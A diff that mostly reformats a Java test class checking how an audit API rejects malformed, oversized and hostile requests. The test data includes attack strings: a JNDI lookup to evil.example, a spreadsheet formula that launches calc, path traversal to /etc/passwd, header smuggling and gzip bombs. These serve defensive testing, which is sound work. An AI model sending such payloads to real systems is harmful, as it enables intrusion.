@@ -50,9 +50,9 @@ import reactor.core.publisher.Flux;
 import reactor.core.publisher.Mono;
 
 /**
- * What bad input is answered with, line by line: the list of docs/security.md, as bytes over a plain
- * connection. What Kafka brings is in RecordReaderTest, RecordTrafficTest and KafkaIT; a full pool of
- * connections in PostgresAuditStoreTest.
+ * What bad input is answered with, line by line: the list of docs/security.md, as bytes over a
+ * plain connection. What Kafka brings is in RecordReaderTest, RecordTrafficTest and KafkaIT; a full
+ * pool of connections in PostgresAuditStoreTest.
  */
 class BadInputTest {
   private static final String JSON = "application/json";
@@ -92,8 +92,7 @@ class BadInputTest {
     revoked = made.at("/key");
     node.send("DELETE", "/api/v1/keys/" + made.at("/id"), "").is(200);
     usedLink = node.send("POST", "/api/v1/links", "").is(201).at("/path");
-    cookie =
-        node.sendWithout("GET", usedLink, "").is(303).header("Set-Cookie").split(";", 2)[0];
+    cookie = node.sendWithout("GET", usedLink, "").is(303).header("Set-Cookie").split(";", 2)[0];
   }
 
   @AfterAll
@@ -199,7 +198,8 @@ class BadInputTest {
     }
   }
 
-  private static Row row(String name, String line, String body, int status, String slug, String... words) {
+  private static Row row(
+      String name, String line, String body, int status, String slug, String... words) {
     return new Row(name, line, List.of(), body, status, slug, List.of(words));
   }
 
@@ -341,7 +341,12 @@ class BadInputTest {
             get("an id that is none", "/api/v1/batches/1-1-1-1-1", 404, "not-found"),
             row("a key that is not there", "DELETE /api/v1/keys/x", "", 404, "not-found"),
             row("no such method", "TRACE /api/v1/batches", "", 405, "method-not-allowed", "TRACE"),
-            row("a method of 5,000 letters", "X".repeat(5_000) + " /api/v1/batches", "", 405, "method-not-allowed"))
+            row(
+                "a method of 5,000 letters",
+                "X".repeat(5_000) + " /api/v1/batches",
+                "",
+                405,
+                "method-not-allowed"))
         .map(Row::test);
   }
 
@@ -352,43 +357,137 @@ class BadInputTest {
     return Stream.of(
             event("an event that is no JSON", "not json", 400, "malformed-json", "JSON"),
             opening("an opening that is no JSON", "not json", 400, "malformed-json", "JSON"),
-            row("a last line that is cut", "POST {open}/events", "{\"type\":\"STARTED\",\"fi", 400, "malformed-json", "JSON"),
-            event("a name that is there twice", "{\"type\":\"STARTED\",\"file\":\"a\",\"file\":\"b\"}", 400, "malformed-json", "file"),
-            opening("the same of an opening", "{\"name\":\"a\",\"name\":\"b\"}", 400, "malformed-json", "name"),
-            event("1,000 levels", "{\"type\":\"STARTED\",\"file\":\"a\",\"attributes\":{\"a\":" + deep + "}}", 400, "malformed-json"),
-            opening("1,000 levels of an opening", "{\"labels\":" + deep + "}", 400, "malformed-json"),
+            row(
+                "a last line that is cut",
+                "POST {open}/events",
+                "{\"type\":\"STARTED\",\"fi",
+                400,
+                "malformed-json",
+                "JSON"),
+            event(
+                "a name that is there twice",
+                "{\"type\":\"STARTED\",\"file\":\"a\",\"file\":\"b\"}",
+                400,
+                "malformed-json",
+                "file"),
+            opening(
+                "the same of an opening",
+                "{\"name\":\"a\",\"name\":\"b\"}",
+                400,
+                "malformed-json",
+                "name"),
+            event(
+                "1,000 levels",
+                "{\"type\":\"STARTED\",\"file\":\"a\",\"attributes\":{\"a\":" + deep + "}}",
+                400,
+                "malformed-json"),
+            opening(
+                "1,000 levels of an opening", "{\"labels\":" + deep + "}", 400, "malformed-json"),
             event("a number of 10,000 digits", figure(digits), 400, "malformed-json"),
-            opening("the same of an opening", "{\"max_skipped\":" + digits + "}", 400, "malformed-json"),
-            row("the same of a change", "PATCH {open}", "{\"labels\":" + digits + "}", 400, "malformed-json"),
+            opening(
+                "the same of an opening",
+                "{\"max_skipped\":" + digits + "}",
+                400,
+                "malformed-json"),
+            row(
+                "the same of a change",
+                "PATCH {open}",
+                "{\"labels\":" + digits + "}",
+                400,
+                "malformed-json"),
             event("no UTF-8", file("\u00ff"), 400, "malformed-json", "UTF-8"),
             event("half a character", file("\u00c3"), 400, "malformed-json", "UTF-8"),
-            event("a surrogate as UTF-8", file("\u00ed\u00a0\u0080"), 400, "malformed-json", "UTF-8"),
+            event(
+                "a surrogate as UTF-8", file("\u00ed\u00a0\u0080"), 400, "malformed-json", "UTF-8"),
             event("a NUL byte", file("a\u0000"), 400, "malformed-json", "NUL"),
             opening("no UTF-8 in an opening", "{\"name\":\"\u00ff\"}", 400, "malformed-json"),
-            row("an array that is not closed", "POST {open}/events", "[" + file("a"), 400, "malformed-json", "not closed").with("Content-Type: " + JSON),
-            row("gzip that is none", "POST {open}/events", "no gzip", 400, "malformed-json", "gzip").with("Content-Encoding: gzip"),
-            get("a Last-Event-ID that is none", "{open}/feed", 400, "bad-request", "Last-Event-ID").with("Last-Event-ID: x'; --"),
-            get("one beyond 2^53", "/api/v1/feed", 400, "bad-request", "Last-Event-ID").with("Last-Event-ID: 9007199254740992"),
+            row(
+                    "an array that is not closed",
+                    "POST {open}/events",
+                    "[" + file("a"),
+                    400,
+                    "malformed-json",
+                    "not closed")
+                .with("Content-Type: " + JSON),
+            row("gzip that is none", "POST {open}/events", "no gzip", 400, "malformed-json", "gzip")
+                .with("Content-Encoding: gzip"),
+            get("a Last-Event-ID that is none", "{open}/feed", 400, "bad-request", "Last-Event-ID")
+                .with("Last-Event-ID: x'; --"),
+            get("one beyond 2^53", "/api/v1/feed", 400, "bad-request", "Last-Event-ID")
+                .with("Last-Event-ID: 9007199254740992"),
             get("a cursor that is none", "/api/v1/batches?cursor=x", 400, "bad-request", "cursor"),
-            get("a forged cursor", "/api/v1/batches?cursor=YisxMDAwMDAwMDAwLTAxLTAxVDAwOjAwOjAwWiAwMDAwMDAwMC0wMDAwLTAwMDAtMDAwMC0wMDAwMDAwMDAwMDAg", 400, "bad-request", "cursor"),
+            get(
+                "a forged cursor",
+                "/api/v1/batches?cursor=YisxMDAwMDAwMDAwLTAxLTAxVDAwOjAwOjAwWiAwMDAwMDAwMC0wMDAwLTAwMDAtMDAwMC0wMDAwMDAwMDAwMDAg",
+                400,
+                "bad-request",
+                "cursor"),
             get("a key in the query", "/api/v1/batches?key=" + Node.KEY, 400, "bad-request", "URL"),
             get("..%2f", "/api/v1/batches/..%2f..%2factuator%2fenv", 400, "bad-request", "path"),
             get("../", "/api/v1/batches/../../actuator/env", 400, "bad-request", "path"),
             get("%00 in the path", "/api/v1/batches/%00", 400, "bad-request", "path"),
             get("no UTF-8 in the path", "/api/v1/tables/%ff/periods/x", 400, "bad-request", "path"),
-            row("the same, to be written", "PUT /api/v1/expectations/%c0%80", "{\"schedule\":\"0 6 * * *\"}", 400, "bad-request", "path"),
+            row(
+                "the same, to be written",
+                "PUT /api/v1/expectations/%c0%80",
+                "{\"schedule\":\"0 6 * * *\"}",
+                400,
+                "bad-request",
+                "path"),
             get("no UTF-8 in the query", "/api/v1/batches?q=%ff", 400, "bad-request", "UTF-8"),
-            get("a parameter that is not known", "/api/v1/batches?stauts=FAILED", 400, "bad-request", "stauts"),
+            get(
+                "a parameter that is not known",
+                "/api/v1/batches?stauts=FAILED",
+                400,
+                "bad-request",
+                "stauts"),
             get("a wait of a year", "{open}?wait=P365D", 400, "bad-request", "wait"),
-            get("51 forms", "/api/v1/batches", 400, "bad-request", "Accept").with("Accept: " + "a/b,".repeat(50) + "a/b"),
-            get("50 forms", "/api/v1/batches", 406, "not-acceptable", "Accept").with("Accept: " + "a/b,".repeat(49) + "a/b"),
-            get("a namespace that is none", "/api/v1/batches", 400, "bad-request", "Audit-Namespace").with("Audit-Namespace: ../x"),
-            row("a run that is none", "POST {open}/events", file("a"), 400, "bad-request", "Audit-Run").with("Audit-Run: -1"),
-            row("a producer with control characters", "POST {open}/events", file("a"), 400, "bad-request", "Audit-Producer").with("Audit-Producer: a\tb"),
-            row("a CloudEvent in binary mode", "POST {open}/events", "{}", 400, "bad-request", "binary mode").with("ce-specversion: 1.0"),
-            row("a chunk of no size", "POST {open}/events", "zz\r\n", 400, "bad-request").with("Transfer-Encoding: chunked"),
-            row("chunks for a call that has answered", "POST {open}/rejected/replay", "2\r\n{}zz\r\n", 400, "bad-request").with("Transfer-Encoding: chunked"),
-            get("two lengths", "/api/v1/batches", 400, "bad-request").with("Content-Length: 1", "Content-Length: 2"),
+            get("51 forms", "/api/v1/batches", 400, "bad-request", "Accept")
+                .with("Accept: " + "a/b,".repeat(50) + "a/b"),
+            get("50 forms", "/api/v1/batches", 406, "not-acceptable", "Accept")
+                .with("Accept: " + "a/b,".repeat(49) + "a/b"),
+            get(
+                    "a namespace that is none",
+                    "/api/v1/batches",
+                    400,
+                    "bad-request",
+                    "Audit-Namespace")
+                .with("Audit-Namespace: ../x"),
+            row(
+                    "a run that is none",
+                    "POST {open}/events",
+                    file("a"),
+                    400,
+                    "bad-request",
+                    "Audit-Run")
+                .with("Audit-Run: -1"),
+            row(
+                    "a producer with control characters",
+                    "POST {open}/events",
+                    file("a"),
+                    400,
+                    "bad-request",
+                    "Audit-Producer")
+                .with("Audit-Producer: a\tb"),
+            row(
+                    "a CloudEvent in binary mode",
+                    "POST {open}/events",
+                    "{}",
+                    400,
+                    "bad-request",
+                    "binary mode")
+                .with("ce-specversion: 1.0"),
+            row("a chunk of no size", "POST {open}/events", "zz\r\n", 400, "bad-request")
+                .with("Transfer-Encoding: chunked"),
+            row(
+                    "chunks for a call that has answered",
+                    "POST {open}/rejected/replay",
+                    "2\r\n{}zz\r\n",
+                    400,
+                    "bad-request")
+                .with("Transfer-Encoding: chunked"),
+            get("two lengths", "/api/v1/batches", 400, "bad-request")
+                .with("Content-Length: 1", "Content-Length: 2"),
             get("no Host", "/api/v1/batches", 400, "bad-request").with("Host: -"),
             get("two Hosts", "/api/v1/batches", 400, "bad-request").with("Host: x", "Host: y"),
             row("another version", "GET /api/v1/batches HTTP/9.9\r\nX:", "", 400, "bad-request"))
@@ -400,72 +499,351 @@ class BadInputTest {
     Instant tomorrow = Instant.now().plusSeconds(86_400);
     String long1025 = "x".repeat(1_025);
     String emoji = "x".repeat(78) + latin("😀".repeat(90).getBytes(StandardCharsets.UTF_8));
-    String cloud = "{\"specversion\":\"1.0\",\"id\":\"1\",\"source\":\"%s\",\"type\":\"io.fileaudit.file.started\",\"subject\":\"%s\"}";
+    String cloud =
+        "{\"specversion\":\"1.0\",\"id\":\"1\",\"source\":\"%s\",\"type\":\"io.fileaudit.file.started\",\"subject\":\"%s\"}";
     return Stream.of(
             event("U+0000", file("a\\u0000"), 422, "invalid-event", "U+0000"),
-            opening("U+0000 in an opening", "{\"name\":\"a\\u0000\"}", 422, "invalid-request", "U+0000"),
-            row("U+0000 in a label to be", "PATCH {open}", "{\"labels\":{\"a\":\"\\u0000\"}}", 422, "invalid-request", "U+0000"),
-            row("U+0000 in a message", "PUT {open}/status", "{\"status\":\"FAILED\",\"message\":\"\\u0000\"}", 422, "invalid-request", "U+0000"),
-            row("U+0000 in a job", "POST /api/v1/lineage", RUN.formatted("\\u0000"), 422, "invalid-event", "U+0000"),
-            row("U+0000 in a source", "POST {open}/events", cloud.formatted("\\u0000", "a"), 422, "invalid-event", "source"),
-            row("U+0000 in a schedule", "PUT /api/v1/expectations/t", "{\"schedule\":\"0 6 * * \\u0000\"}", 422, "invalid-request", "schedule"),
-            row("U+0000 in a key's name", "POST /api/v1/keys", "{\"name\":\"\\u0000\",\"scopes\":[\"read\"],\"namespaces\":[\"n\"]}", 422, "invalid-request", "name"),
-            event("an unknown field", "{\"type\":\"STARTED\",\"file\":\"a\",\"chekcsum\":\"x\"}", 422, "invalid-event", "chekcsum"),
-            event("an unknown field of 40,000 letters", "{\"type\":\"STARTED\",\"file\":\"a\",\"" + "x".repeat(40_000) + "\":1}", 422, "invalid-event", "x…", "attributes"),
-            opening("an unknown field of an opening", "{\"nmae\":\"x\"}", 422, "invalid-request", "nmae"),
-            event("an unknown type", "{\"type\":\"DONE\",\"file\":\"a\"}", 422, "invalid-event", "DONE", "COMPLETED"),
-            event("one that is cut where it is shown", "{\"type\":\"" + emoji + "\"}", 422, "invalid-event", "x…"),
+            opening(
+                "U+0000 in an opening",
+                "{\"name\":\"a\\u0000\"}",
+                422,
+                "invalid-request",
+                "U+0000"),
+            row(
+                "U+0000 in a label to be",
+                "PATCH {open}",
+                "{\"labels\":{\"a\":\"\\u0000\"}}",
+                422,
+                "invalid-request",
+                "U+0000"),
+            row(
+                "U+0000 in a message",
+                "PUT {open}/status",
+                "{\"status\":\"FAILED\",\"message\":\"\\u0000\"}",
+                422,
+                "invalid-request",
+                "U+0000"),
+            row(
+                "U+0000 in a job",
+                "POST /api/v1/lineage",
+                RUN.formatted("\\u0000"),
+                422,
+                "invalid-event",
+                "U+0000"),
+            row(
+                "U+0000 in a source",
+                "POST {open}/events",
+                cloud.formatted("\\u0000", "a"),
+                422,
+                "invalid-event",
+                "source"),
+            row(
+                "U+0000 in a schedule",
+                "PUT /api/v1/expectations/t",
+                "{\"schedule\":\"0 6 * * \\u0000\"}",
+                422,
+                "invalid-request",
+                "schedule"),
+            row(
+                "U+0000 in a key's name",
+                "POST /api/v1/keys",
+                "{\"name\":\"\\u0000\",\"scopes\":[\"read\"],\"namespaces\":[\"n\"]}",
+                422,
+                "invalid-request",
+                "name"),
+            event(
+                "an unknown field",
+                "{\"type\":\"STARTED\",\"file\":\"a\",\"chekcsum\":\"x\"}",
+                422,
+                "invalid-event",
+                "chekcsum"),
+            event(
+                "an unknown field of 40,000 letters",
+                "{\"type\":\"STARTED\",\"file\":\"a\",\"" + "x".repeat(40_000) + "\":1}",
+                422,
+                "invalid-event",
+                "x…",
+                "attributes"),
+            opening(
+                "an unknown field of an opening",
+                "{\"nmae\":\"x\"}",
+                422,
+                "invalid-request",
+                "nmae"),
+            event(
+                "an unknown type",
+                "{\"type\":\"DONE\",\"file\":\"a\"}",
+                422,
+                "invalid-event",
+                "DONE",
+                "COMPLETED"),
+            event(
+                "one that is cut where it is shown",
+                "{\"type\":\"" + emoji + "\"}",
+                422,
+                "invalid-event",
+                "x…"),
             event("a figure below 0", figure("-1"), 422, "invalid-event", "rows is -1"),
-            event("a figure beyond 2^53-1", figure("9007199254740992"), 422, "invalid-event", "9007199254740992"),
+            event(
+                "a figure beyond 2^53-1",
+                figure("9007199254740992"),
+                422,
+                "invalid-event",
+                "9007199254740992"),
             event("a figure beyond all", figure("1e400"), 422, "invalid-event", "rows"),
             event("a figure in parts", figure("1.5"), 422, "invalid-event", "rows is 1.5"),
             event("a figure as a text", figure("\"1\""), 422, "invalid-event", "rows"),
-            event("a time a day ahead", file("a").replace("}", ",\"at\":\"" + tomorrow + "\"}"), 422, "invalid-event", "ahead"),
-            event("a time that is none", file("a").replace("}", ",\"at\":\"2026-02-30T00:00:00Z\"}"), 422, "invalid-event", "at is"),
+            event(
+                "a time a day ahead",
+                file("a").replace("}", ",\"at\":\"" + tomorrow + "\"}"),
+                422,
+                "invalid-event",
+                "ahead"),
+            event(
+                "a time that is none",
+                file("a").replace("}", ",\"at\":\"2026-02-30T00:00:00Z\"}"),
+                422,
+                "invalid-event",
+                "at is"),
             event("a file without a name", file(""), 422, "invalid-event", "file has 0 characters"),
-            event("a file's name of 1,025 characters", file(long1025), 422, "invalid-event", "1025", "1024"),
-            event("a file's name that is null", "{\"type\":\"STARTED\",\"file\":null}", 422, "invalid-event", "file"),
+            event(
+                "a file's name of 1,025 characters",
+                file(long1025),
+                422,
+                "invalid-event",
+                "1025",
+                "1024"),
+            event(
+                "a file's name that is null",
+                "{\"type\":\"STARTED\",\"file\":null}",
+                422,
+                "invalid-event",
+                "file"),
             event("half of a surrogate pair", file("\\ud800"), 422, "invalid-event", "surrogate"),
             event("no object", "5", 422, "invalid-event", "object"),
-            opening("a limit that is none", "{\"limits\":{\"idle\":\"ten minutes\"}}", 422, "invalid-request", "PT30M"),
-            opening("limits that contradict each other", "{\"limits\":{\"operation\":\"PT1M\",\"idle\":\"PT2M\"}}", 422, "invalid-request", "idle"),
-            row("a change of what cannot be changed", "PATCH {open}", "{\"name\":\"x\"}", 422, "invalid-request", "name"),
+            opening(
+                "a limit that is none",
+                "{\"limits\":{\"idle\":\"ten minutes\"}}",
+                422,
+                "invalid-request",
+                "PT30M"),
+            opening(
+                "limits that contradict each other",
+                "{\"limits\":{\"operation\":\"PT1M\",\"idle\":\"PT2M\"}}",
+                422,
+                "invalid-request",
+                "idle"),
+            row(
+                "a change of what cannot be changed",
+                "PATCH {open}",
+                "{\"name\":\"x\"}",
+                422,
+                "invalid-request",
+                "name"),
             row("a change of nothing", "PATCH {open}", "", 422, "invalid-request", "empty"),
-            row("a limit of 40,000 letters", "PATCH {open}", "{\"limits\":{\"" + "x".repeat(40_000) + "\":1}}", 422, "invalid-request", "unknown limit", "idle"),
-            row("a status that there is not", "PUT {open}/status", "{\"status\":\"DONE\"}", 422, "invalid-request", "DONE"),
-            row("numbers that are none", "POST {open}/rejected/replay", "{\"numbers\":[0]}", 422, "invalid-request", "numbers"),
-            row("a schedule that is none", "PUT /api/v1/expectations/t", "{\"schedule\":\"at six\"}", 422, "invalid-request", "cron"),
-            row("a schedule that is never due", "PUT /api/v1/expectations/t", "{\"schedule\":\"0 0 30 2 *\"}", 422, "invalid-request", "never due"),
-            row("a zone that there is not", "PUT /api/v1/expectations/t", "{\"schedule\":\"0 6 * * *\",\"zone\":\"Mars/Base\"}", 422, "invalid-request", "Mars/Base"),
-            row("a grace of 10,000 years", "PUT /api/v1/expectations/t", "{\"schedule\":\"0 6 * * *\",\"grace\":\"P3650000D\"}", 422, "invalid-request", "grace"),
-            row("a scope that there is not", "POST /api/v1/keys", "{\"name\":\"k\",\"scopes\":[\"root\"],\"namespaces\":[\"n\"]}", 422, "invalid-request", "root"),
-            row("a life below 0", "POST /api/v1/keys", "{\"name\":\"k\",\"scopes\":[\"read\"],\"namespaces\":[\"n\"],\"expires_after\":\"-P1D\"}", 422, "invalid-request", "expires_after"),
-            row("a run without a run", "POST /api/v1/lineage", "{\"eventType\":\"START\"}", 422, "invalid-event", "run"),
-            row("two runs where one was expected", "POST /api/v1/lineage", RUN.formatted("j") + RUN.formatted("j"), 400, "malformed-json", "behind"),
-            row("a run where an array was expected", "POST /api/v1/lineage/batch", RUN.formatted("j"), 422, "invalid-request", "array"),
-            row("lineage that is no JSON", "POST /api/v1/lineage/batch", "[", 400, "malformed-json", "JSON"),
-            row("one bad run of two", "POST /api/v1/lineage/batch", "[" + RUN.formatted("j") + ",5]", 200, "", "partial_success", "\"index\":1"),
-            row("a CloudEvent without a source", "POST {open}/events", cloud.replace("\"source\"", "\"sauce\"").formatted("s", "a"), 422, "invalid-event", "source").with("Content-Type: application/cloudevents+json"),
-            row("a plain event said to be a CloudEvent", "POST {open}/events", file("a"), 422, "invalid-event", "specversion").with("Content-Type: application/cloudevents+json"),
-            row("an array said to be one CloudEvent", "POST {open}/events", "[]", 422, "invalid-request", "array").with("Content-Type: application/cloudevents+json"),
-            row("one CloudEvent said to be many", "POST {open}/events", cloud.formatted("s", "a"), 422, "invalid-request", "array").with("Content-Type: application/cloudevents-batch+json"))
+            row(
+                "a limit of 40,000 letters",
+                "PATCH {open}",
+                "{\"limits\":{\"" + "x".repeat(40_000) + "\":1}}",
+                422,
+                "invalid-request",
+                "unknown limit",
+                "idle"),
+            row(
+                "a status that there is not",
+                "PUT {open}/status",
+                "{\"status\":\"DONE\"}",
+                422,
+                "invalid-request",
+                "DONE"),
+            row(
+                "numbers that are none",
+                "POST {open}/rejected/replay",
+                "{\"numbers\":[0]}",
+                422,
+                "invalid-request",
+                "numbers"),
+            row(
+                "a schedule that is none",
+                "PUT /api/v1/expectations/t",
+                "{\"schedule\":\"at six\"}",
+                422,
+                "invalid-request",
+                "cron"),
+            row(
+                "a schedule that is never due",
+                "PUT /api/v1/expectations/t",
+                "{\"schedule\":\"0 0 30 2 *\"}",
+                422,
+                "invalid-request",
+                "never due"),
+            row(
+                "a zone that there is not",
+                "PUT /api/v1/expectations/t",
+                "{\"schedule\":\"0 6 * * *\",\"zone\":\"Mars/Base\"}",
+                422,
+                "invalid-request",
+                "Mars/Base"),
+            row(
+                "a grace of 10,000 years",
+                "PUT /api/v1/expectations/t",
+                "{\"schedule\":\"0 6 * * *\",\"grace\":\"P3650000D\"}",
+                422,
+                "invalid-request",
+                "grace"),
+            row(
+                "a scope that there is not",
+                "POST /api/v1/keys",
+                "{\"name\":\"k\",\"scopes\":[\"root\"],\"namespaces\":[\"n\"]}",
+                422,
+                "invalid-request",
+                "root"),
+            row(
+                "a life below 0",
+                "POST /api/v1/keys",
+                "{\"name\":\"k\",\"scopes\":[\"read\"],\"namespaces\":[\"n\"],\"expires_after\":\"-P1D\"}",
+                422,
+                "invalid-request",
+                "expires_after"),
+            row(
+                "a run without a run",
+                "POST /api/v1/lineage",
+                "{\"eventType\":\"START\"}",
+                422,
+                "invalid-event",
+                "run"),
+            row(
+                "two runs where one was expected",
+                "POST /api/v1/lineage",
+                RUN.formatted("j") + RUN.formatted("j"),
+                400,
+                "malformed-json",
+                "behind"),
+            row(
+                "a run where an array was expected",
+                "POST /api/v1/lineage/batch",
+                RUN.formatted("j"),
+                422,
+                "invalid-request",
+                "array"),
+            row(
+                "lineage that is no JSON",
+                "POST /api/v1/lineage/batch",
+                "[",
+                400,
+                "malformed-json",
+                "JSON"),
+            row(
+                "one bad run of two",
+                "POST /api/v1/lineage/batch",
+                "[" + RUN.formatted("j") + ",5]",
+                200,
+                "",
+                "partial_success",
+                "\"index\":1"),
+            row(
+                    "a CloudEvent without a source",
+                    "POST {open}/events",
+                    cloud.replace("\"source\"", "\"sauce\"").formatted("s", "a"),
+                    422,
+                    "invalid-event",
+                    "source")
+                .with("Content-Type: application/cloudevents+json"),
+            row(
+                    "a plain event said to be a CloudEvent",
+                    "POST {open}/events",
+                    file("a"),
+                    422,
+                    "invalid-event",
+                    "specversion")
+                .with("Content-Type: application/cloudevents+json"),
+            row(
+                    "an array said to be one CloudEvent",
+                    "POST {open}/events",
+                    "[]",
+                    422,
+                    "invalid-request",
+                    "array")
+                .with("Content-Type: application/cloudevents+json"),
+            row(
+                    "one CloudEvent said to be many",
+                    "POST {open}/events",
+                    cloud.formatted("s", "a"),
+                    422,
+                    "invalid-request",
+                    "array")
+                .with("Content-Type: application/cloudevents-batch+json"))
         .map(Row::test);
   }
 
   @TestFactory
   Stream<DynamicTest> notAsThingsStand() {
     return Stream.of(
-            row("an event after the end", "POST {ended}/events", file("a"), 409, "batch-ended", "CANCELLED"),
+            row(
+                "an event after the end",
+                "POST {ended}/events",
+                file("a"),
+                409,
+                "batch-ended",
+                "CANCELLED"),
             row("a heartbeat after the end", "PUT {ended}/heartbeat", "", 409, "batch-ended"),
-            row("a change after the end", "PATCH {ended}", "{\"labels\":{\"a\":\"b\"}}", 409, "batch-ended"),
-            row("an older run", "POST {resumed}/events".replace("{resumed}", resumed()), file("a"), 409, "stale-run", "run 1", "is 2").with("Audit-Run: 1"),
-            row("a run to come", "POST {open}/events", file("a"), 409, "stale-run").with("Audit-Run: 2"),
-            row("a position with other content", "POST " + numbered() + "/events", file("b").replace("}", ",\"position\":1}"), 409, "key-conflict", "position 1").with("Audit-Producer: p"),
-            row("an id with other content", "POST " + named() + "/events", file("b").replace("}", ",\"id\":\"i\"}"), 409, "key-conflict", "id"),
-            row("a status that cannot follow", "PUT {ended}/status", "{\"status\":\"COMPLETED\"}", 409, "batch-ended"),
-            row("running what runs", "PUT {open}/status", "{\"status\":\"RUNNING\"}", 409, "invalid-transition"),
-            row("an opening with other fields", "PUT {open}", "{\"name\":\"two\"}", 409, "batch-conflict", "name"),
-            row("an ending with sub-batches open", "PUT " + parent() + "/status", "{\"status\":\"COMPLETED\"}", 409, "sub-batches-open"))
+            row(
+                "a change after the end",
+                "PATCH {ended}",
+                "{\"labels\":{\"a\":\"b\"}}",
+                409,
+                "batch-ended"),
+            row(
+                    "an older run",
+                    "POST {resumed}/events".replace("{resumed}", resumed()),
+                    file("a"),
+                    409,
+                    "stale-run",
+                    "run 1",
+                    "is 2")
+                .with("Audit-Run: 1"),
+            row("a run to come", "POST {open}/events", file("a"), 409, "stale-run")
+                .with("Audit-Run: 2"),
+            row(
+                    "a position with other content",
+                    "POST " + numbered() + "/events",
+                    file("b").replace("}", ",\"position\":1}"),
+                    409,
+                    "key-conflict",
+                    "position 1")
+                .with("Audit-Producer: p"),
+            row(
+                "an id with other content",
+                "POST " + named() + "/events",
+                file("b").replace("}", ",\"id\":\"i\"}"),
+                409,
+                "key-conflict",
+                "id"),
+            row(
+                "a status that cannot follow",
+                "PUT {ended}/status",
+                "{\"status\":\"COMPLETED\"}",
+                409,
+                "batch-ended"),
+            row(
+                "running what runs",
+                "PUT {open}/status",
+                "{\"status\":\"RUNNING\"}",
+                409,
+                "invalid-transition"),
+            row(
+                "an opening with other fields",
+                "PUT {open}",
+                "{\"name\":\"two\"}",
+                409,
+                "batch-conflict",
+                "name"),
+            row(
+                "an ending with sub-batches open",
+                "PUT " + parent() + "/status",
+                "{\"status\":\"COMPLETED\"}",
+                409,
+                "sub-batches-open"))
         .map(Row::test);
   }
 
@@ -499,19 +877,75 @@ class BadInputTest {
     String bomb = latin(Mutations.gzip(new byte[8 * 1024 * 1024]));
     return Stream.of(
             event("a line of 64 KiB and more", file("x".repeat(65_536)), 413, "too-large", "65536"),
-            row("a line without end", "POST {open}/events", "x".repeat(3_000_000), 413, "too-large", "65536"),
-            row("a gzip bomb", "POST {open}/events", bomb, 413, "too-large", "200 times").with("Content-Encoding: gzip"),
-            row("a gzip bomb of lineage", "POST /api/v1/lineage", bomb, 413, "too-large", "200 times").with("Content-Encoding: gzip"),
-            row("a status of 64 KiB and more", "PUT {open}/status", "{" + " ".repeat(65_536) + "}", 413, "too-large", "65536"),
-            row("the same in chunks", "PUT {open}/status", "11000\r\n{" + " ".repeat(0x10fff) + "\r\n0\r\n\r\n", 413, "too-large", "65536").with("Transfer-Encoding: chunked"),
-            row("1,001 runs", "POST /api/v1/lineage/batch", "[" + "5,".repeat(1_000) + "5]", 413, "too-large", "1001"),
-            get("a request line of 17 KiB", "/api/v1/batches?q=" + "x".repeat(17_000), 414, "too-large", "request line"),
-            get("headers of 9 KiB", "/api/v1/batches", 431, "too-large", "headers").with("X: " + "x".repeat(9_000)),
-            row("events as text", "POST {open}/events", file("a"), 415, "unsupported-media-type", "text/plain").with("Content-Type: text/plain"),
-            opening("an opening as text", "{}", 415, "unsupported-media-type", "text/plain").with("Content-Type: text/plain"),
-            row("events in latin1", "POST {open}/events", file("a"), 415, "unsupported-media-type", "UTF-8").with("Content-Type: application/x-ndjson;charset=latin1"),
-            row("events in br", "POST {open}/events", "x", 415, "unsupported-media-type", "br").with("Content-Encoding: br"),
-            row("lineage in br", "POST /api/v1/lineage", "x", 415, "unsupported-media-type", "br").with("Content-Encoding: br"))
+            row(
+                "a line without end",
+                "POST {open}/events",
+                "x".repeat(3_000_000),
+                413,
+                "too-large",
+                "65536"),
+            row("a gzip bomb", "POST {open}/events", bomb, 413, "too-large", "200 times")
+                .with("Content-Encoding: gzip"),
+            row(
+                    "a gzip bomb of lineage",
+                    "POST /api/v1/lineage",
+                    bomb,
+                    413,
+                    "too-large",
+                    "200 times")
+                .with("Content-Encoding: gzip"),
+            row(
+                "a status of 64 KiB and more",
+                "PUT {open}/status",
+                "{" + " ".repeat(65_536) + "}",
+                413,
+                "too-large",
+                "65536"),
+            row(
+                    "the same in chunks",
+                    "PUT {open}/status",
+                    "11000\r\n{" + " ".repeat(0x10fff) + "\r\n0\r\n\r\n",
+                    413,
+                    "too-large",
+                    "65536")
+                .with("Transfer-Encoding: chunked"),
+            row(
+                "1,001 runs",
+                "POST /api/v1/lineage/batch",
+                "[" + "5,".repeat(1_000) + "5]",
+                413,
+                "too-large",
+                "1001"),
+            get(
+                "a request line of 17 KiB",
+                "/api/v1/batches?q=" + "x".repeat(17_000),
+                414,
+                "too-large",
+                "request line"),
+            get("headers of 9 KiB", "/api/v1/batches", 431, "too-large", "headers")
+                .with("X: " + "x".repeat(9_000)),
+            row(
+                    "events as text",
+                    "POST {open}/events",
+                    file("a"),
+                    415,
+                    "unsupported-media-type",
+                    "text/plain")
+                .with("Content-Type: text/plain"),
+            opening("an opening as text", "{}", 415, "unsupported-media-type", "text/plain")
+                .with("Content-Type: text/plain"),
+            row(
+                    "events in latin1",
+                    "POST {open}/events",
+                    file("a"),
+                    415,
+                    "unsupported-media-type",
+                    "UTF-8")
+                .with("Content-Type: application/x-ndjson;charset=latin1"),
+            row("events in br", "POST {open}/events", "x", 415, "unsupported-media-type", "br")
+                .with("Content-Encoding: br"),
+            row("lineage in br", "POST /api/v1/lineage", "x", 415, "unsupported-media-type", "br")
+                .with("Content-Encoding: br"))
         .map(Row::test);
   }
 
@@ -524,8 +958,15 @@ class BadInputTest {
           "\u001b[31mred\u001b[0m\u0007",
           "${jndi:ldap://evil.example/a}",
           "=cmd|' /C calc'!A0",
-          "+1", "-1", "@SUM(A1)",
-          "../../etc/passwd", "C:\\con", "%s%n%00", "{{7*7}}", "\u202egpj.exe", "e\u0301 \u00e9 😀 \ufeff");
+          "+1",
+          "-1",
+          "@SUM(A1)",
+          "../../etc/passwd",
+          "C:\\con",
+          "%s%n%00",
+          "{{7*7}}",
+          "\u202egpj.exe",
+          "e\u0301 \u00e9 😀 \ufeff");
 
   @Test
   void textThatOthersStumbleOverIsStoredAndGivenBackWordForWord() throws IOException {
@@ -535,8 +976,13 @@ class BadInputTest {
             .map(
                 text -> {
                   String json = AuditJson.strict().writeValueAsString(text);
-                  return "{\"type\":\"FAILED\",\"file\":" + json + ",\"error\":{\"code\":\"c\",\"message\":" + json
-                      + "},\"attributes\":{\"a\":" + json + "}}\n";
+                  return "{\"type\":\"FAILED\",\"file\":"
+                      + json
